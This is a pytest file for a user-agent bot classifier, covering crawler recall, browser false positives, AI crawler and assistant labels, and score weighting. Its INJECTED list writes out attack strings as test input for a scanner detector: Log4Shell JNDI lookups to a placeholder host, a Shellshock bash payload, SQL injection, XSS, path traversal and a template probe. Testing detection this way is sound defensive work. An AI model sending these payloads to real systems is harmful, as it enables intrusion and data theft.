"""Bots: recall and false hits on labelled user agents, and the reason that is told."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml
from crawleruseragents import CRAWLER_USER_AGENTS_DATA

from collector.enrich.bots import BOT_SCORE, RELAYED, SERVER, WEIGHTS, BotReason, reasons, verdict

CHROME = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"


def labelled(shared_data: Path, name: str) -> list[str]:
    groups: dict[str, list[object]] = yaml.safe_load((shared_data / "bots" / f"{name}.yml").read_text())
    # Two groups of browsers.yml are bots by their own heading ("not worth blocking").
    return [str(ua) for heading, uas in groups.items() if "Insignificat bots" not in heading for ua in uas]


def test_recall(shared_data: Path) -> None:
    crawlers = labelled(shared_data, "crawlers")
    missed = [ua for ua in crawlers if not verdict(ua).bot]
    assert len(crawlers) > 600
    assert len(missed) <= 0.005 * len(crawlers), missed


def test_false_hits(shared_data: Path) -> None:
    browsers = labelled(shared_data, "browsers")
    hits = [ua for ua in browsers if verdict(ua).bot]
    assert len(browsers) > 500
    assert len(hits) <= 0.002 * len(browsers), hits


def test_browsers_of_another_list_are_people(shared_data: Path) -> None:
    # User agents as one site met them, spoofed ones among them: hence the few that are allowed.
    cases = yaml.load((shared_data / "ua/pgts_browser_list.yaml").read_text(), Loader=yaml.CSafeLoader)["test_cases"]
    people = [case["user_agent_string"] for case in cases if case["family"] in ("Firefox", "Safari", "Opera")]
    hits = [ua for ua in people if verdict(ua).bot]
    assert len(people) > 1000
    assert len(hits) <= 0.005 * len(people), hits


@pytest.mark.parametrize(
    ("user_agent", "reason"),
    [
        ("", BotReason.EMPTY),
        ("  ", BotReason.EMPTY),
        ("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2)", BotReason.AI_CRAWLER),
        ("Mozilla/5.0 (compatible; ClaudeBot/1.0; +claudebot@anthropic.com)", BotReason.AI_CRAWLER),
        (CHROME.replace("Chrome/", "HeadlessChrome/"), BotReason.HEADLESS),
        ("curl/8.5.0", BotReason.HTTP_LIBRARY),
        ("python-requests/2.32.3", BotReason.HTTP_LIBRARY),
        ("Go-http-client/2.0", BotReason.HTTP_LIBRARY),
        ("Java/17.0.2", BotReason.HTTP_LIBRARY),
        ("Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", BotReason.MONITORING),
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", BotReason.CRAWLER),
        ("Thing/1.0", BotReason.NO_BROWSER),
        ("Mozilla/5.0", BotReason.NO_BROWSER),
        (CHROME, ""),
        (
            "Mozilla/5.0 (Linux; Android 10; CUBOT X30) AppleWebKit/537.36 Chrome/126.0 Mobile Safari/537.36",
            "",
        ),
        (
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148 Instagram 1",
            "",
        ),
    ],
)
def test_reason(user_agent: str, reason: str) -> None:
    found = verdict(user_agent)
    assert (found.reasons.partition(",")[0], found.bot) == (reason, bool(reason))
    assert type(found.reasons) is str


AI_CRAWLERS = [
    "GPTBot", "OAI-SearchBot", "ClaudeBot", "Claude-SearchBot", "anthropic-ai", "PerplexityBot", "Google-Extended",
    "GoogleOther", "Google-CloudVertexBot", "Applebot-Extended", "Bytespider", "CCBot", "meta-externalagent",
    "Amazonbot", "YouBot", "Diffbot", "AI2Bot", "Timpibot", "ImagesiftBot", "omgili", "PanguBot", "Kangaroo Bot",
    "cohere-training-data-crawler",
]  # fmt: skip
AI_ASSISTANTS = [
    "ChatGPT-User", "Claude-User", "Perplexity-User", "MistralAI-User", "meta-externalfetcher", "Gemini-Deep-Research",
    "DuckAssistBot", "cohere-ai", "Google-NotebookLM",
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        *((name, BotReason.AI_CRAWLER) for name in AI_CRAWLERS),
        *((name, BotReason.AI_ASSISTANT) for name in AI_ASSISTANTS),
    ],
)
def test_ai_crawlers_and_assistants_are_told_apart(name: str, reason: BotReason) -> None:
    for text in (name, f"{name}/1.0", f"Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; {name}/1.2)"):
        found = verdict(text)
        assert found.bot
        assert found.reasons.partition(",")[0] == reason
        assert len({"ai-crawler", "ai-assistant"} & set(found.reasons.split(","))) == 1


INJECTED = [
    "${jndi:ldap://x.example/a}",
    CHROME + " ${jndi:${lower:l}dap://x.example/a}",
    "() { :;}; /bin/bash -c id",
    CHROME + "' AND SLEEP(5)--",
    "Mozilla/5.0' OR '1'='1",
    CHROME + "' UNION ALL SELECT NULL,NULL--",
    "<script>alert(1)</script>",
    "Mozilla/5.0 ../../../etc/passwd",
    "{{7*7}}",
]


@pytest.mark.parametrize("user_agent", INJECTED)
def test_code_in_a_user_agent_is_a_scanner(user_agent: str) -> None:
    assert BotReason.SCANNER in verdict(user_agent).reasons
    assert verdict(user_agent, SERVER).bot


PEOPLE = [
    "Mozilla/5.0 (Linux; Android 9; {model} Build/PPR1) AppleWebKit/537.36 Chrome/100.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 13; {model}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; U; Android 4.1.1; zh-cn; {model} Build/JRO03C) AppleWebKit/534.30 Mobile Safari/534.30",
]


@pytest.mark.parametrize("model", ["Bot", "Spider X5", "Octopus S520", "HTC Butterfly s", "Crawler 3", "Fetch"])
@pytest.mark.parametrize("text", PEOPLE)
def test_the_name_of_a_phone_says_nothing(text: str, model: str) -> None:
    assert not verdict(text.format(model=model)).bot
    assert verdict(text.format(model=model) + " (compatible; Googlebot/2.1)").bot


@pytest.mark.parametrize(
    "user_agent",
    [
        "Opera/9.80 (MAUI Runtime; Opera Mini/4.4.39008/37.9178; U; en) Presto/2.12.423 Version/12.16",
        "SAMSUNG-GT-C3312/1.0 Opera Mini/4.2 Transcoder",
        "SIE-S55/11 UP.Browser/6.1.0.5.c.2 (GUI) MMP/1.0 (Google WAP Proxy/1.0)",
        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; TeomaBar 2.01)",
        "Mozilla/5.0 (Windows; U; Windows NT 6.1; en-US; rv:1.9.3a1) Gecko/20100208 MozillaDeveloperPreview/3.7a1",
        CHROME + ",gzip(gfe) (via translate.google.com)",
    ],
)
def test_people_with_odd_user_agents(user_agent: str) -> None:
    assert not verdict(user_agent).bot


LIBRARIES = [
    "curl/8.5.0", "python-requests/2.32.3", "Python/3.11 aiohttp/3.9.1", "python-httpx/0.27", "Go-http-client/2.0",
    "Java/17.0.2", "Java-http-client/21", "Apache-HttpClient/4.5.14 (Java/17.0.2)", "okhttp/4.12.0", "node",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)", "axios/1.6.0", "undici", "Ruby", "Faraday v2.9.0",
    "http.rb/5.2.0", "GuzzleHttp/7", "Symfony HttpClient (Curl)", "PHP/8.2", "Dart/3.3 (dart:io)", "reqwest/0.12",
    "hyper/1.0", "RestSharp/110.2.0.0", "Elixir/1.16 (Req)", "ReactorNetty/1.1.15", "Vert.x-WebClient/4.5",
    "ktor-client", "PycURL/7.45", "Jersey/3.1 (HttpUrlConnection 17)", "libwww-perl/6.05",
    "npm/10.2 node/v20 linux x64", "composer/2.6 (Linux; 6.1; PHP 8.2)", "Debian APT-HTTP/1.3 (2.6.1)",
    "Apache-Maven/3.9.6 (Java 17.0.2; Linux 6.1)", "Gradle/8.5 (Linux;6.1;amd64) (Oracle;17)",
    "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041",
]  # fmt: skip


@pytest.mark.parametrize("user_agent", [*LIBRARIES, ""])
def test_a_library_is_a_bot_but_not_for_a_server_with_a_key(user_agent: str) -> None:
    reason = BotReason.HTTP_LIBRARY if user_agent else BotReason.EMPTY
    assert verdict(user_agent).bot
    assert reason in verdict(user_agent).reasons
    assert verdict(user_agent, SERVER) == (False, 0, "")
    assert verdict(user_agent, RELAYED) == verdict(user_agent)


@pytest.mark.parametrize("name", ["checkout-scheduler/1.0", "WordPress/6.5; https://shop.example", "Shop/2 (Linux)"])
def test_a_server_may_have_any_name(name: str) -> None:
    assert verdict(name, SERVER) == (False, 0, "")


@pytest.mark.parametrize(
    ("user_agent", "reason"),
    [
        ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "crawler"),
        ("Googlebot/2.1", "crawler"),
        ("GPTBot/1.2", "ai-crawler"),
        (CHROME.replace("Chrome/", "HeadlessChrome/"), "headless"),
    ],
)
def test_a_crawler_that_a_server_passes_on_is_a_crawler(user_agent: str, reason: str) -> None:
    found = verdict(user_agent, SERVER)
    assert (found.bot, found.reasons) == (True, reason)


def test_the_examples_of_the_package_are_bots() -> None:
    """But for the ten that are people in editors and apps, and testers whom a person sends."""
    examples = [example for row in CRAWLER_USER_AGENTS_DATA for example in row["instances"]]
    missed = [example for example in examples if not verdict(example).bot]
    assert len(examples) > 1_500
    assert len(missed) <= 10, missed


def test_phones_are_people(shared_data: Path) -> None:
    """Of over 8,000 browsers of phones and tablets, none is flagged but one that names an address of the web."""
    cases = yaml.load((shared_data / "ua/test_device.yaml").read_text(), Loader=yaml.CSafeLoader)["test_cases"]
    browsers = [
        case["user_agent_string"]
        for case in cases
        if case["family"] != "Spider" and re.match(r"Mozilla/5.0 \((?:Linux|iP)", case["user_agent_string"])
    ]
    hits = [ua for ua in browsers if verdict(ua).bot]
    assert len(browsers) > 8_000
    assert len(hits) <= 1, hits


def test_hostile_user_agents_are_survived() -> None:
    assert verdict("\ud800\udfff").reasons == BotReason.NO_BROWSER
    assert verdict(CHROME + " x" * 100_000) == (False, 0, "")


def test_the_automata_do_not_run_dry() -> None:
    """A set that is out of memory says "no match": ten thousand different user agents must not bring it there."""
    for number in range(10_000):
        verdict(f"Mozilla/5.0 (X{number}; rv:{number * 7919}) Thing{number % 97}/{number} like Gecko")
    verdict.forget()
    reasons.forget()
    assert verdict("Mozilla/5.0 (compatible; Googlebot/2.1)") == (True, 100, "crawler,no-browser")
    assert verdict("Mozilla/5.0 (compatible; nobody knows this scraper here)").bot


@pytest.mark.parametrize(
    ("signs", "score", "bot"),
    [
        ([], 0, False),
        (["no-language"], 30, False),
        (["datacenter"], 50, False),
        (["datacenter", "no-language"], 80, True),
        (["rapid", "datacenter"], 100, True),
        (["rapid", "no-language"], 80, True),
        (["spam"], 100, True),
        (["headless", "datacenter", "no-language", ""], 100, True),
    ],
    ids=lambda value: "+".join(value) if isinstance(value, list) else "",
)
def test_signs_add_up(signs: list[str], score: int, bot: bool) -> None:
    found = verdict(CHROME, *signs)
    assert found[:2] == (bot, score)
    assert set(filter(None, found.reasons.split(","))) == set(filter(None, signs))
    assert found.bot is (found.score >= BOT_SCORE)


def test_a_tool_that_a_person_runs_is_no_machine_by_itself() -> None:
    assert verdict(CHROME + " GTmetrix") == (False, 60, "on-demand")
    assert verdict(CHROME + " GTmetrix", "datacenter").bot


@pytest.mark.parametrize("reason", BotReason)
def test_every_reason_weighs(reason: BotReason) -> None:
    assert 0 < WEIGHTS[reason] <= 100
    assert verdict(CHROME, reason).reasons == reason
